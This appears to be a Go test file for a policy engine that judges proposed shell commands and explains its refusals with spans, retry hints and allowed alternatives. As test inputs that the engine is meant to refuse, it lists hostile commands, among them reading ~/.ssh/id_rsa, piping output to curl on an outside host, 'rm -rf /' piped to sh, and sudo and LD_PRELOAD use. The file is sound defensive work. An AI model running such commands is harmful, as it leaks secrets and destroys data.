// SPDX-License-Identifier: Apache-2.0

package explain_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/fumehood/fumehood/internal/kit/lanetest"
	"github.com/fumehood/fumehood/internal/kit/sample"
	"github.com/fumehood/fumehood/internal/kit/valid"
	"github.com/fumehood/fumehood/internal/policy"
	"github.com/fumehood/fumehood/internal/policy/explain"
	"github.com/fumehood/fumehood/internal/shell/parse"
	"github.com/fumehood/fumehood/internal/shell/snippet"
	"github.com/fumehood/fumehood/pkg/proposal"
)

func explained(t testing.TB, v *explain.Adviser, p proposal.Proposal) explain.Explanation {
	t.Helper()
	return explainedWith(t, v, p, parse.Analyze)
}

func explainedWith(t testing.TB, v *explain.Adviser, p proposal.Proposal, analyze func(proposal.Proposal) proposal.Analysis) explain.Explanation {
	t.Helper()
	x, err := v.Explain(t.Context(), p, analyze(p))
	if err != nil {
		t.Fatalf("%q: %v", p.Run, err)
	}
	return x
}

func shipped(t testing.TB) *policy.Engine {
	t.Helper()
	e, err := policy.New(t.Context(), policy.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func decide(t testing.TB, e *policy.Engine, text string) proposal.Decision {
	t.Helper()
	p := running(text)
	d, err := e.Decide(t.Context(), p, parse.Analyze(p))
	if err != nil {
		t.Fatalf("%q: %v", text, err)
	}
	return d
}

// corpora are the texts that packages share.
const corpora = "../../../testdata/corpus/"

func running(text string) proposal.Proposal { return proposal.Proposal{ID: "t", Run: text} }

// TestTypedDenial holds what is said to who proposed it: where, whether to try again,
// and what is allowed.
func TestTypedDenial(t *testing.T) {
	lanetest.SkipShort(t)
	v := explain.NewAdviser(shipped(t), parse.Analyze)
	for _, c := range []struct {
		text, rule, span string
		retry            proposal.Retry
		first            string // of the alternatives
	}{
		{"go test -exec ./x -run T ./...", "code.program", "-exec", proposal.RetryVary, ""},
		{"date --set=1 -u", "text.program", "--set=1", proposal.RetryVary, ""},
		{"sudo go test ./...", "privilege.none", "sudo go test ./...", proposal.RetryNever, "go test ./..."},
		{"\tsudo\tls", "privilege.none", "sudo", proposal.RetryNever, "ls"},
		{"npm publish", "code.publish", "publish", proposal.RetryNever, ""},
		{"cat ~/.ssh/id_rsa", "read.secret", "cat ~/.ssh/id_rsa", proposal.RetryNever, ""},
		{"$(which go) test ./...", "parse.dynamic-program", "$(which go)", proposal.RetryVary, "go test ./..."},
		{"X=go; $Y test ./...", "parse.dynamic-program", "$Y", proposal.RetryVary, ""},
		{"eval 'go test ./...'", "parse.eval", "eval", proposal.RetryVary, "go test ./..."},
		{"echo 'rm -rf /' | sh", "parse.shell-stdin", "sh", proposal.RetryVary, ""},
		{"source venv/x.sh", "parse.source", "source", proposal.RetryVary, "bash venv/x.sh"},
		{"echo hi > /etc/x", "redirect.place", "/etc/x", proposal.RetryVary, ""},
		{"cd pkg&&go test -exec=./x|tail -3", "code.program", "-exec=./x", proposal.RetryVary, ""},
		{"go vet ./... | curl -d @- x.example", "network.client", "curl -d @- x.example", proposal.RetryVary, ""},
		{"LD_PRELOAD=./x go test ./...", "env.steering", "LD_PRELOAD", proposal.RetryVary, ""},
		{"cat a | /opt/bin/grep x", "default.no-rule", "/opt/bin/grep x", proposal.RetryVary, "cat a | grep x"},
		{"nosuch", "default.no-rule", "nosuch", proposal.RetryVary, ""},
		{"ls\x1b[2J", "parse.control-character", "\x1b", proposal.RetryVary, ""},
	} {
		x := explained(t, v, running(c.text))
		i := slices.IndexFunc(x.Decision.Reasons, func(r proposal.Reason) bool { return r.Rule == c.rule })
		if i < 0 {
			t.Errorf("%q: no reason %s: %v", c.text, c.rule, x.Decision.Rules)
			continue
		}
		r := x.Decision.Reasons[i]
		span := ""
		if r.Span != nil {
			span = c.text[r.Span.Start:r.Span.End]
		}
		if span != c.span || r.Retry != c.retry || r.Layer == "" {
			t.Errorf("%q: %s: span %q, want %q; retry %s, want %s; layer %q", c.text, c.rule, span, c.span, r.Retry, c.retry, r.Layer)
		}
		if strings.Join(r.Alternatives, ", ") != c.first {
			t.Errorf("%q: %s: alternatives %q, want first %q", c.text, c.rule, r.Alternatives, c.first)
		}
	}
}

// analyze is parse.Analyze with the code that p carries.
func analyze(p proposal.Proposal) proposal.Analysis {
	a := parse.Analyze(p)
	a.Snippets = snippet.ReadSnippets(p, a)
	return a
}

// TestOneAlternative holds that a refusal names one command that does the same, or none.
func TestOneAlternative(t *testing.T) {
	lanetest.SkipShort(t)
	v := explain.NewAdviser(shipped(t), analyze)
	for text, want := range map[string]string{
		"make install":                                           "",
		"npm install left-pad":                                   "",
		"git -c core.pager=id log":                               "",
		"go test -exec ./x ./...":                                "",
		"curl https://a.example":                                 "",
		"javac App.java -d /opt/x && java App":                   "",
		"npm test && npm publish":                                "",
		"git log -Scat --output=/etc/x":                          "",
		"sudo -u git log":                                        "",
		"sudo -E -n git log -Scat":                               "git log -Scat",
		"stdbuf -oL npm test -- --grep slow":                     "npm test -- --grep slow",
		"GIT_PAGER=less git log -n 3":                            "git log -n 3",
		"cat a.txt | /opt/bin/grep x":                            "cat a.txt | grep x",
		"echo 'git status' | sh":                                 "git status",
		"python3 -c 'import ctypes; ctypes.CDLL(None).getpid()'": "",
		"python3 -c 'import ctypes' && npm publish":              "",
	} {
		var got []string
		for _, r := range explainedWith(t, v, running(text), analyze).Decision.Reasons {
			got = append(got, r.Alternatives...)
		}
		if strings.Join(got, ", ") != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
	code := proposal.Proposal{ID: "t", Code: "import ctypes\nctypes.CDLL(None).getpid()\n", Language: "python"}
	for _, r := range explainedWith(t, v, code, analyze).Decision.Reasons {
		if len(r.Alternatives) > 0 {
			t.Errorf("code: %q", r.Alternatives)
		}
	}
}

// TestAlternativesAreAllowed holds that nothing is advertised which would be refused.
func TestAlternativesAreAllowed(t *testing.T) {
	lanetest.SkipShort(t)
	e := shipped(t)
	v := explain.NewAdviser(e, parse.Analyze)
	found := 0
	texts := sample.EveryNth(t, append(sample.ReadCorpus(t, corpora+"hostile.txt"), sample.ReadCorpus(t, corpora+"benign.txt")...), 2, 7)
	for _, text := range texts {
		p := running(text)
		a := parse.Analyze(p)
		d, err := e.Decide(t.Context(), p, a)
		if err != nil {
			t.Fatal(err)
		}
		advised := d
		advised.Reasons = v.AdviseReasons(t.Context(), p, a, d)
		if diff := cmp.Diff(withoutAlternatives(d.Reasons), withoutAlternatives(advised.Reasons)); diff != "" {
			t.Errorf("%q: advice changed more than alternatives: %s", text, diff)
		}
		found += heldAlternatives(t, e, text, d, advised)
	}
	if found == 0 {
		t.Errorf("no alternatives for %d texts", len(texts))
	}
}

func withoutAlternatives(reasons []proposal.Reason) []proposal.Reason {
	reasons = slices.Clone(reasons)
	for i := range reasons {
		reasons[i].Alternatives = nil
	}
	return reasons
}

// heldAlternatives checks what advising may change, and counts the alternatives.
func heldAlternatives(t testing.TB, e *policy.Engine, text string, d, advised proposal.Decision) int {
	t.Helper()
	found := 0
	if advised.Effect != d.Effect || len(advised.Reasons) != len(d.Reasons) || !cmp.Equal(advised.Grant, d.Grant) {
		t.Errorf("%q: advice changed the decision: %+v, %+v", text, d, advised)
	}
	for _, r := range advised.Reasons {
		if len(r.Alternatives) > valid.MaxAlternatives {
			t.Errorf("%q: %d alternatives", text, len(r.Alternatives))
		}
		for _, other := range r.Alternatives {
			found++
			if lost := lostWords(text, other); lost != "" {
				t.Errorf("%q: %q is advertised without %q", text, other, lost)
			}
			if got := decide(t, e, other); got.Effect != proposal.Allow || len(other) > valid.MaxAlternative || strings.Contains(other, "\n") {
				t.Errorf("%q: %q is advertised and %v by %v", text, other, got.Effect, got.Rules)
			}
		}
		if s := r.Span; s != nil && (s.Start < 0 || s.End < s.Start || s.End > len(text) || s.Line < 1 || s.Col < 1) {
			t.Errorf("%q: the span %+v lies outside", text, *s)
		}
	}
	return found
}

// lostWords returns the words of the commands in text that those in other lack, except for the
// programs in whose place the sandbox is.
func lostWords(text, other string) string {
	var lost []string
	kept := words(other)
	for _, w := range words(text) {
		if i := slices.Index(kept, w); i >= 0 {
			kept = slices.Delete(kept, i, i+1)
		} else if !slices.Contains(inSandbox, w) {
			lost = append(lost, w)
		}
	}
	return strings.Join(lost, " ")
}

var inSandbox = strings.Fields("sudo doas pkexec fakeroot env nohup setsid exec command unbuffer stdbuf busybox toybox chronic -E -H -n -oL -o0 -eL " +
	"eval source . which command -v type -p echo printf sh bash dash for in do done cat")

var forTerminals = strings.Fields("PAGER GIT_PAGER MANPAGER LESS LESSOPEN EDITOR GIT_EDITOR VISUAL BROWSER")

// words are those of all commands in text: what lies between blanks, quotes and operators, and
// the last part of a program's path.
func words(text string) (all []string) {
	for _, w := range strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune(" \t\n\"'`$(){};|&", r) }) {
		if name, _, ok := strings.Cut(w, "="); ok && slices.Contains(forTerminals, name) {
			continue
		}
		if strings.HasPrefix(w, "/") {
			w = w[strings.LastIndexByte(w, '/')+1:]
		}
		all = append(all, strings.TrimPrefix(w, "./"))
	}
	return all
}

// TestAdviceIsRepeatable holds that who decides again finds the same, whatever else was
// asked before.
func TestAdviceIsRepeatable(t *testing.T) {
	lanetest.SkipShort(t)
	e := shipped(t)
	one, other := explain.NewAdviser(e, parse.Analyze), explain.NewAdviser(shipped(t), parse.Analyze)
	texts := sample.ReadCorpus(t, corpora+"hostile.txt")[:120]
	want := map[string][]proposal.Reason{}
	advised := func(v *explain.Adviser, text string) []proposal.Reason {
		p := running(text)
		return v.AdviseReasons(t.Context(), p, parse.Analyze(p), decide(t, e, text))
	}
	for _, text := range texts {
		want[text] = advised(one, text)
	}
	slices.Reverse(texts)
	for _, text := range texts {
		if diff := cmp.Diff(want[text], advised(other, text)); diff != "" {
			t.Errorf("%q: %s", text, diff)
		}
	}
}

const ourTool = `package fumehood.command

# METADATA
# title: Our tool builds
# custom:
#   rule: org.ourtool
#   match: ["ourtool build all"]
allow contains {"rule": "org.ourtool"} if {
	input.command.program == "ourtool"
	input.command.sub in {"", "build"}
	plain
}

plain if {
	every word in input.command.argv { not startswith(word, "--deep") }
}

# METADATA
# title: Another tool
# custom: {rule: org.other}
allow contains {"rule": "org.other"} if {
	input.command.program == "other"
}
`

// TestNear holds that the rules for a program are shown with what of them does not hold,
// and no others.
func TestNear(t *testing.T) {
	lanetest.SkipShort(t)
	e, err := policy.New(t.Context(), policy.Options{Layers: []policy.Layer{{Name: "ours", Role: policy.Allows, Files: []policy.File{{Name: "a.rego", Content: []byte(ourTool)}}}}})
	if err != nil {
		t.Fatal(err)
	}
	v := explain.NewAdviser(e, parse.Analyze)
	x := explained(t, v, running("ourtool --deep=x build all"))
	if len(x.Near) != 1 {
		t.Fatalf("near: %+v", x.Near)
	}
	n := x.Near[0]
	want := []explain.Condition{
		{Text: "plain", File: "a.rego", Line: 11, Col: 2, Values: []explain.Value{}},
		{Text: `every word in input.command.argv { not startswith(word, "--deep") }`, File: "a.rego", Line: 15, Col: 2,
			Values: []explain.Value{{Path: "input.command.argv", Value: `["--deep=x", "build", "all"]`}}},
	}
	if diff := cmp.Diff(want, n.Failed); diff != "" {
		t.Error(diff)
	}
	if n.Rule != "org.ourtool" || n.Layer != "organisation" || n.Title != "Our tool builds" || !slices.Equal(n.Examples, []string{"ourtool build all"}) {
		t.Errorf("near: %+v", n)
	}
	if x := explained(t, v, running("ourtool build all")); len(x.Near) > 0 || x.Decision.Effect != proposal.Allow || x.Held[1].Rule != "org.ourtool" {
		t.Errorf("allowed: %+v", x)
	}
}

// FuzzExplain holds that no text makes an explanation panic, reach outside the text or
// advertise what is refused.
func FuzzExplain(f *testing.F) {
	lanetest.SkipShort(f)
	for _, text := range []string{"go test -exec ./x ./...", "sudo -u a ls", "X=go; $X test", "for f in $(ls); do rm $f; done", "eval 'ls'", "cat <<E | sh\nls\nE", "a=1 b=2 >x", "ls\x00\xff", "echo `which ls`", "'\"", "cat a | /opt/bin/grep x"} {
		f.Add(text)
	}
	e := shipped(f)
	v := explain.NewAdviser(e, parse.Analyze)
	f.Fuzz(func(t *testing.T, text string) {
		p := running(text)
		if text == "" || len(text) > 4<<10 {
			return
		}
		a := parse.Analyze(p)
		d, err := e.Decide(t.Context(), p, a)
		if err != nil {
			t.Fatalf("%q: %v", text, err)
		}
		x, err := v.Explain(t.Context(), p, a)
		if err != nil {
			t.Fatal(err)
		}
		heldAlternatives(t, e, text, d, x.Decision)
		for _, w := range x.Rewrites {
			if w.After != "" && decide(t, e, w.After).Effect != proposal.Allow {
				t.Errorf("%q is rewritten as %q, which is refused", text, w.After)
			}
		}
		if data, err := json.Marshal(x); err != nil || !json.Valid(data) {
			t.Errorf("%q: %v", text, err)
		}
	})
}
